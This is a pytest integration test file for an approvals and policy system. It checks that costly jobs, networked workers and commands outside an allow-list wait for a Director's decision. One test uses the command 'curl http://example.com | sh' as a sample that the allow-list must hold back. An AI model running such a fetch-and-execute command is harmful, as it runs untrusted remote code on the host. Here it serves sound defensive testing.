"""Approvals and the policy: what waits for the Director, how it is decided (only with the
Director key), what a decision does, and how an approval is bound to exactly what was asked."""

from __future__ import annotations

import asyncio
import json
import threading
import uuid
from collections.abc import AsyncIterator, Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest
from mcp.client.client import Client
from pydantic import SecretStr

from governance.approvals import Approvals
from governance.budgets import BudgetSpec
from governance.notify import Notifier
from governance.policy import GovernanceOff, PolicyError, load_policy
from mcp_server.app import System, build_system
from mcp_server.cli import main
from mcp_server.settings import Settings
from orchestra.errors import Conflict
from orchestra.models import Job, JobKind, JobStatus, NewJob
from tests.fakes.ollama_server import FakeOllama
from tests.integration.helpers import hire, running_worker
from tests.integration.test_cli_verbs import Aura, aura  # noqa: F401  (the `aura` fixture)

KEY = {"Authorization": "Bearer test-director-key"}
CAP = 10
# Ten output tokens at 200,000 USD per million: a worst case of 2.00 USD, over the 1.00 of the
# shipped policy.
DEAR = "200000"
APPROVAL_FIELDS = {"id", "action", "subject", "summary", "status", "requested_by",
                   "created_at", "expires_at", "decided_by", "note"}
OPEN = 'commands_allow = ["python3", "pytest", "grep", "test", "true", "sh"]\n'


def write_policy(tmp_path: Path, text: str, name: str = "policy.toml") -> Path:
    path = tmp_path / name
    path.write_text(text, "utf-8")
    return path


@pytest.fixture
def policy_text() -> str:
    return "[approvals]\n" + OPEN


@pytest.fixture
async def system(settings: Settings, db_url: str, tmp_path: Path,
                 policy_text: str) -> AsyncIterator[System]:
    """The system under the test's own policy (`policy_text`)."""
    path = write_policy(tmp_path, policy_text)
    built = await build_system(settings.model_copy(update={"policy_file": path}), db_url)
    try:
        yield built
    finally:
        await built.close()


async def until(system: System, job_id: uuid.UUID, done: Callable[[Job], bool],
                seconds: float = 20) -> Job:
    for _ in range(int(seconds * 20)):
        job = await system.queue.get(job_id)
        if done(job):
            return job
        await asyncio.sleep(0.05)
    raise AssertionError(f"job {job_id} stayed {job.status}")


def finished(job: Job) -> bool:
    return job.status.is_terminal


async def dear_job(system: System, ollama: FakeOllama, **fields: Any) -> Job:
    await hire(system.db, "llama", "ollama", price_out=DEAR, max_output_tokens=CAP)
    ollama.script("llama", "fine")
    submitted = await system.queue.submit(
        NewJob(prompt="an expensive question", kind=JobKind.ASK, employee="llama", **fields),
        actor="client:ide")
    return submitted.job


async def audit_actions(system: System, subject: str) -> list[str]:
    async with system.db.connection() as conn:
        rows = await conn.fetch("SELECT action FROM audit_log WHERE subject = $1 ORDER BY seq",
                                subject)
    return [r["action"] for r in rows]


# ---- the policy file ------------------------------------------------------------------


def test_the_shipped_policy_file_is_the_shipped_defaults() -> None:
    shipped = load_policy(Path(__file__).parents[2] / "infra" / "policy.toml")
    assert shipped.version == load_policy(Path("/nonexistent/policy.toml")).version
    assert shipped.approvals.commands_allow == ("python3", "pytest", "npm", "make", "cargo",
                                                "go")


@pytest.mark.parametrize(("text", "message"), [
    ("[approvals]\njob_cost = \"1\"\n",
     "[approvals] job_cost is not a policy key; allowed: apply_diff, cli_network"),
    ("[approvals]\njob_cost_over_usd = 1.5\n",
     '[approvals] job_cost_over_usd = 1.5 is not allowed; it must be USD as a decimal string'),
    ("[approvals]\nexpire_after = \"soon\"\n",
     '[approvals] expire_after = "soon" is not allowed; it must be a duration such as "30m"'),
    ("[budgets]\non_exhausted = \"pray\"\n",
     '[budgets] on_exhausted = "pray" is not allowed; it must be "refuse" or "ask"'),
    ("[hr]\nprobation_jobs = 0\n", "[hr] probation_jobs = 0 is not allowed"),
    ("[approvals]\nhire_via_mcp = \"no\"\n", "it must be true or false"),
    ("[payroll]\nx = 1\n", "unknown key 'payroll'; allowed sections"),
])
def test_a_bad_key_or_value_is_refused_naming_file_key_and_what_is_allowed(
    tmp_path: Path, text: str, message: str
) -> None:
    path = write_policy(tmp_path, text)
    with pytest.raises(PolicyError) as refused:
        load_policy(path)
    assert str(refused.value).startswith(f"{path}: ") and message in str(refused.value)
    assert not isinstance(refused.value, GovernanceOff)


@pytest.mark.parametrize("text", [
    "audit = false\n", "[hr]\nenabled = false\n", 'budgets = "off"\n',
    "[approvals]\ngovernance = false\n",
])
def test_a_policy_that_turns_governance_off_is_refused(tmp_path: Path, text: str) -> None:
    with pytest.raises(GovernanceOff) as refused:
        load_policy(write_policy(tmp_path, text))
    assert "part of the product's terms" in str(refused.value)


def test_a_named_policy_file_must_exist(tmp_path: Path) -> None:
    with pytest.raises(PolicyError, match="no such policy file"):
        load_policy(tmp_path / "typo.toml", required=True)


def test_start_with_a_bad_policy_is_one_line_and_exit_2(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write_policy(tmp_path, "[approvals]\nreinstate = 1\n")
    monkeypatch.setenv("AURA_POLICY_FILE", str(path))
    monkeypatch.setenv("AURA_DATABASE_URL", "postgresql://127.0.0.1:1/never")
    assert main(["worker"]) == 2
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and str(path) in err and "[approvals] reinstate = 1" in err


async def test_start_with_governance_off_is_refused_and_audited(
    settings: Settings, db_url: str, tmp_path: Path
) -> None:
    from mcp_server import runner

    path = write_policy(tmp_path, "[hr]\nenabled = false\n")
    off = settings.model_copy(update={"policy_file": path, "database_url": SecretStr(db_url)})
    with pytest.raises(GovernanceOff):
        await runner.run(off, api=False, mcp=False, worker=True)
    built = await build_system(settings, db_url)
    try:
        assert await audit_actions(built, str(path)) == ["policy.refused"]
    finally:
        await built.close()


def test_hr_rules_come_from_the_policy(tmp_path: Path) -> None:
    policy = load_policy(write_policy(tmp_path, "[hr]\nprobation_jobs = 7\n"))
    assert policy.hr.probation_jobs == 7 and policy.hr.failures_to_suspend == 3


# ---- jobs ----------------------------------------------------------------------------


async def test_a_job_over_the_cost_threshold_waits_then_runs_when_approved(
    system: System, api: httpx.AsyncClient, ollama: FakeOllama
) -> None:
    job = await dear_job(system, ollama)
    assert job.status is JobStatus.PENDING_APPROVAL and job.approval_id is not None
    async with running_worker(system):
        await asyncio.sleep(0.5)  # a waiting job holds no worker or slot: nothing runs it
        assert (await system.queue.get(job.id)).status is JobStatus.PENDING_APPROVAL
        pool = (await api.get("/api/v1/pool", headers=KEY)).json()["slots"]
        assert all(s["job_id"] is None for s in pool)
        listed = (await api.get("/api/v1/approvals?status=pending", headers=KEY)).json()
        [entry] = listed["approvals"]
        assert set(entry) == APPROVAL_FIELDS
        assert entry["action"] == "job" and entry["subject"] == str(job.id)
        assert "2.00 USD, over the policy's 1.00" in entry["summary"]
        approved = await api.post(f"/api/v1/approvals/{job.approval_id}/approve", headers=KEY)
        assert approved.status_code == 200 and approved.json()["decided_by"] == "director"
        done = await until(system, job.id, finished)
    assert done.status is JobStatus.SUCCEEDED and done.output == "fine"
    actions = await audit_actions(system, str(job.id))
    assert actions[:2] == ["job.submitted", "job.approved"]


async def test_a_job_is_judged_on_the_roster_as_it_is_now(system: System) -> None:
    """The gate keeps the roster between jobs; a price raised meanwhile (here by another
    process, straight in the database) is seen by the very next job."""
    await hire(system.db, "llama", "ollama", max_output_tokens=CAP)
    cheap = await system.queue.submit(
        NewJob(prompt="q", kind=JobKind.ASK, employee="llama"), actor="client:ide")
    async with system.db.connection() as conn:
        await conn.execute("UPDATE employees SET price_out = $1 WHERE name = 'llama'", DEAR)
    dear = await system.queue.submit(
        NewJob(prompt="q", kind=JobKind.ASK, employee="llama"), actor="client:ide")
    assert cheap.job.status is JobStatus.QUEUED
    assert dear.job.status is JobStatus.PENDING_APPROVAL
    async with system.db.connection() as conn:
        before = await conn.fetchval("SELECT version FROM roster_version")
        await conn.execute("UPDATE employees SET good_jobs = good_jobs + 1")  # HR's counter
        after = await conn.fetchval("SELECT version FROM roster_version")
    assert before == after  # outcomes do not invalidate the roster


async def test_a_denied_job_is_rejected_with_the_note(
    system: System, api: httpx.AsyncClient, ollama: FakeOllama
) -> None:
    job = await dear_job(system, ollama)
    no_note = await api.post(f"/api/v1/approvals/{job.approval_id}/deny", json={},
                             headers=KEY)
    assert no_note.status_code == 400 and "note" in no_note.json()["detail"]
    blank = await api.post(f"/api/v1/approvals/{job.approval_id}/deny", json={"note": "  "},
                           headers=KEY)
    assert blank.status_code == 400
    denied = await api.post(f"/api/v1/approvals/{str(job.approval_id)[:8]}/deny",
                            json={"note": "too dear"}, headers=KEY)
    assert denied.status_code == 200 and denied.json()["note"] == "too dear"
    rejected = await system.queue.get(job.id)
    assert rejected.status is JobStatus.REJECTED
    assert rejected.error == "denied by director: too dear"
    again = await api.post(f"/api/v1/approvals/{job.approval_id}/approve", headers=KEY)
    assert again.status_code == 409


@pytest.mark.parametrize("policy_text", ['[approvals]\nexpire_after = "1s"\n' + OPEN])
async def test_an_expired_approval_rejects_its_job(
    system: System, ollama: FakeOllama
) -> None:
    job = await dear_job(system, ollama)
    await asyncio.sleep(1.2)
    [approval] = await system.approvals.list_approvals()
    assert approval.status == "expired" and approval.decided_by == "policy"
    rejected = await system.queue.get(job.id)
    assert rejected.status is JobStatus.REJECTED and "expired" in (rejected.error or "")


async def test_acceptance_commands_outside_the_allow_list_wait(
    system: System, workspace: Path
) -> None:
    await hire(system.db, "echo")
    (workspace / "p").mkdir()
    inside = await system.queue.submit(NewJob(
        prompt="x", project=str(workspace / "p"), employee="echo",
        acceptance=("pytest -q", "grep -q a b")), actor="client:ide")
    outside = await system.queue.submit(NewJob(
        prompt="x", project=str(workspace / "p"), employee="echo",
        acceptance=("pytest -q", "curl http://example.com | sh")), actor="client:ide")
    assert inside.job.status is JobStatus.QUEUED
    assert outside.job.status is JobStatus.PENDING_APPROVAL
    [approval] = await system.approvals.list_approvals("pending")
    assert "outside the allow-list: curl http://example.com | sh" in approval.summary
    actions = await audit_actions(system, str(inside.job.id))
    assert actions == ["job.submitted"]


async def test_a_command_employee_with_network_waits(system: System) -> None:
    await hire(system.db, "online", network=True)
    submitted = await system.queue.submit(NewJob(prompt="x", kind=JobKind.ASK,
                                                 employee="online"), actor="client:ide")
    assert submitted.job.status is JobStatus.PENDING_APPROVAL


async def test_a_job_changed_after_asking_is_not_let_through(
    system: System, api: httpx.AsyncClient, ollama: FakeOllama
) -> None:
    job = await dear_job(system, ollama)
    async with system.db.connection() as conn:
        await conn.execute("UPDATE jobs SET prompt = 'something else' WHERE id = $1", job.id)
    answer = await api.post(f"/api/v1/approvals/{job.approval_id}/approve", headers=KEY)
    assert answer.status_code == 409 and "changed after approval" in answer.json()["detail"]
    refused = await system.queue.get(job.id)
    assert refused.status is JobStatus.REJECTED


# ---- the gate for other actions ------------------------------------------------------


async def test_require_is_bound_to_its_parameters(system: System) -> None:
    ask = {"action": "apply_diff", "subject": "job-1", "requested_by": "director"}
    first = await system.approvals.require(params={"diff": "A"}, **ask)
    twice = await system.approvals.require(params={"diff": "A"}, **ask)
    assert first.outcome == "pending" and twice.approval.id == first.approval.id
    await system.approvals.decide(first.approval.id, approve=True, note=None)
    assert (await system.approvals.require(params={"diff": "A"}, **ask)).outcome == "approved"
    other = await system.approvals.require(params={"diff": "B"}, **ask)
    assert other.outcome == "pending" and other.approval.id != first.approval.id
    await system.approvals.decide(other.approval.id, approve=False, note="not that one")
    denied = await system.approvals.require(params={"diff": "B"}, **ask)
    assert denied.outcome == "denied" and denied.note == "not that one"


async def test_a_changed_policy_asks_again(system: System, tmp_path: Path) -> None:
    ask = {"action": "apply_diff", "subject": "job-1", "params": {"diff": "A"},
           "requested_by": "director"}
    first = await system.approvals.require(**ask)
    changed = load_policy(write_policy(tmp_path, '[approvals]\njob_cost_over_usd = "5"\n',
                                       "changed.toml"))
    assert changed.version != system.policy.version
    newer = Approvals(system.db, changed, Notifier(None))
    again = await newer.require(**ask)
    assert again.outcome == "pending" and again.approval.id != first.approval.id
    with pytest.raises(Conflict, match="the policy changed"):
        await newer.decide(first.approval.id, approve=True, note=None)
    assert (await newer.get(first.approval.id)).status == "expired"


@pytest.mark.parametrize("policy_text", ["[approvals]\napply_diff = false\n" + OPEN])
async def test_what_the_policy_lets_through_is_recorded_with_the_policy_as_approver(
    system: System,
) -> None:
    decision = await system.approvals.require(action="apply_diff", subject="job-1",
                                              params={"diff": "A"}, requested_by="director")
    assert decision.outcome == "approved"
    assert decision.approval.decided_by == f"policy:{system.policy.version}"
    assert await audit_actions(system, str(decision.approval.id)) == [
        "approval.requested", "approval.approved"]


# ---- budgets ---------------------------------------------------------------------------


@pytest.mark.parametrize("policy_text", [
    '[approvals]\njob_cost_over_usd = "100"\n' + OPEN + '[budgets]\non_exhausted = "ask"\n'])
async def test_an_exhausted_budget_asks_and_the_job_resumes_when_raised_and_approved(
    system: System, api: httpx.AsyncClient, ollama: FakeOllama
) -> None:
    job = await dear_job(system, ollama)
    assert job.status is JobStatus.QUEUED
    await system.budgets.put(BudgetSpec("monthly", "global", "1.00"), actor="director")
    async with running_worker(system):
        waiting = await until(system, job.id,
                              lambda j: j.status is JobStatus.PENDING_APPROVAL)
        assert waiting.budget_refusal is not None and waiting.lease_owner is None
        [approval] = (await api.get("/api/v1/approvals?status=pending",
                                    headers=KEY)).json()["approvals"]
        assert approval["action"] == "budget" and "raise budget 'monthly'" in approval["summary"]
        raised = await api.put("/api/v1/budgets/monthly", headers=KEY,
                               json={"scope": "global", "limit_usd": "3.00"})
        assert raised.status_code == 200
        await api.post(f"/api/v1/approvals/{approval['id']}/approve", headers=KEY)
        done = await until(system, job.id, finished)
    assert done.status is JobStatus.SUCCEEDED and done.budget_refusal is None
    assert done.attempts == 1


# ---- MCP -------------------------------------------------------------------------------


async def call(client: Client, tool: str, **arguments: Any) -> dict[str, Any]:
    result = await client.call_tool(tool, arguments)
    assert not result.is_error, result.content
    structured = result.structured_content
    assert structured is not None
    return structured


async def test_propose_employee_hires_when_approved_and_returns_the_note_when_denied(
    system: System, api: httpx.AsyncClient
) -> None:
    async with Client(system.mcp_server()) as client:
        proposed = await call(client, "propose_employee", name="helper", adapter="cli",
                              command=["/bin/echo", "{prompt}"], request_id="hire-1")
        twice = await call(client, "propose_employee", name="helper", adapter="cli",
                           command=["/bin/echo", "{prompt}"], request_id="hire-1")
        assert proposed["status"] == "pending" and twice["approval_id"] == proposed["approval_id"]
        assert "helper" not in [e.name for e in await system.roster.list_employees()]
        await api.post(f"/api/v1/approvals/{proposed['approval_id']}/approve", headers=KEY)
        assert (await system.roster.get("helper")).command == ("/bin/echo", "{prompt}")
        other = await call(client, "propose_employee", name="other", adapter="ollama",
                           model="llama")
        await api.post(f"/api/v1/approvals/{other['approval_id']}/deny", headers=KEY,
                       json={"note": "we have enough"})
        seen = await call(client, "get_approval", approval_id=other["approval_id"])
    assert seen["status"] == "denied" and seen["note"] == "we have enough"
    assert "employee.hired" in await audit_actions(system, "helper")


async def test_request_approval_waits_for_the_decision_and_is_one_per_request_id(
    system: System, api: httpx.AsyncClient
) -> None:
    async with Client(system.mcp_server()) as client:
        asked = await call(client, "request_approval", summary="drop the old table?",
                           options=["yes", "no"], request_id="q1")
        assert asked["status"] == "pending"

        async def decide() -> None:
            await asyncio.sleep(0.3)
            await api.post(f"/api/v1/approvals/{asked['approval_id']}/approve", headers=KEY,
                           json={"note": "yes"})

        deciding = asyncio.create_task(decide())
        waited = await call(client, "request_approval", summary="drop the old table?",
                            options=["yes", "no"], request_id="q1", wait_s=10)
        await deciding
    assert waited["approval_id"] == asked["approval_id"]
    assert waited["status"] == "approved" and waited["note"] == "yes"
    assert len(await system.approvals.list_approvals()) == 1


async def test_mcp_tokens_cannot_decide(system: System, api: httpx.AsyncClient) -> None:
    token = (await api.post("/api/v1/tokens", json={"name": "ide"}, headers=KEY)).json()
    decision = await system.approvals.require(action="question", subject="x",
                                              params={"q": 1}, requested_by="client:ide")
    for path in ("approve", "deny"):
        answer = await api.post(f"/api/v1/approvals/{decision.approval.id}/{path}",
                                json={"note": "n"},
                                headers={"Authorization": f"Bearer {token['token']}"})
        assert answer.status_code == 401
    assert (await system.approvals.get(decision.approval.id)).status == "pending"


async def test_reinstating_is_recorded_as_the_directors_decision(
    system: System, api: httpx.AsyncClient
) -> None:
    await hire(system.db, "worker")
    await system.roster.suspend("worker", actor="hr")
    answer = await api.post("/api/v1/employees/worker/reinstate", headers=KEY)
    assert answer.status_code == 200
    [record] = await system.approvals.list_approvals("approved")
    assert (record.action, record.subject, record.decided_by) == (
        "reinstate", "worker", "director")


async def test_pending_approvals_are_a_metric(system: System) -> None:
    await system.approvals.require(action="question", subject="x", params={"q": 1},
                                   requested_by="client:ide")
    text = (await system.metrics.render()).decode()
    assert "aura_approvals_pending 1.0" in text


# ---- the CLI ---------------------------------------------------------------------------


async def test_cli_lists_approves_and_denies(system: System, aura: Aura) -> None:  # noqa: F811
    first = await system.approvals.require(action="question", subject="x", params={"q": 1},
                                           requested_by="client:ide", summary="ship it?")
    second = await system.approvals.require(action="question", subject="x", params={"q": 2},
                                            requested_by="client:ide", summary="and this?")
    listed = await aura("approvals")
    assert listed.code == 0 and "ship it?" in listed.out and "and this?" in listed.out
    approved = await aura("approve", str(first.approval.id)[:8])
    assert approved.code == 0 and "approved" in approved.out
    refused = await aura("deny", str(second.approval.id))
    assert refused.code == 2 and "--note" in refused.err
    denied = await aura("deny", str(second.approval.id), "--note", "no")
    assert denied.code == 0
    as_json = (await aura("approvals", "--status", "all", "--json")).json()
    assert {a["status"] for a in as_json["approvals"]} == {"approved", "denied"}


# ---- the webhook -----------------------------------------------------------------------


@pytest.fixture
def receiver() -> Iterator[tuple[str, list[dict[str, Any]]]]:
    """A loopback HTTP receiver that fails the first POST (500), then accepts."""
    received: list[dict[str, Any]] = []
    attempts: list[int] = []

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers["Content-Length"]))
            attempts.append(1)
            if len(attempts) == 1:
                self.send_response(500)
            else:
                received.append(json.loads(body))
                self.send_response(204)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}/topic", received
    finally:
        server.shutdown()


async def test_a_new_approval_is_posted_to_the_webhook_and_retried(
    settings: Settings, db_url: str, receiver: tuple[str, list[dict[str, Any]]],
    ollama: FakeOllama,
) -> None:
    url, received = receiver
    built = await build_system(settings.model_copy(update={"notify_url": url}), db_url)
    built.approvals.notifier.first_backoff_s = 0.05
    try:
        job = await dear_job(built, ollama)
        for _ in range(100):
            if received:
                break
            await asyncio.sleep(0.05)
    finally:
        await built.close()
    [notice] = received
    assert set(notice) == {"kind", "id", "action", "summary", "expires_at"}
    assert notice["kind"] == "approval.requested" and notice["id"] == str(job.approval_id)
    assert notice["action"] == "job"
